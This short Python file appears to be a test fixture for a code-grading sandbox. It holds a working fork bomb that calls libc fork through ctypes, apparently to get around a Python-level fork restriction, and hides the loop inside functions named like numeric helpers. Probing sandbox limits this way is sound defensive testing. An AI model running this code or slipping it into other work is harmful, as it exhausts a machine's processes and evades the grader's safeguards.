# Forks as often as it can.
# everywhere: wrong_answer, 0 points
# process ordinary: not run: nothing bounds it there, and it would take the machine along
import ctypes

FORK = ctypes.PyDLL(None).fork  # below what is refused in words


def mean(x):
    while FORK() != -1:
        pass
    return 0.0

def scale(x, c):
    return mean(x)


def apply(f, x):
    return mean(x)
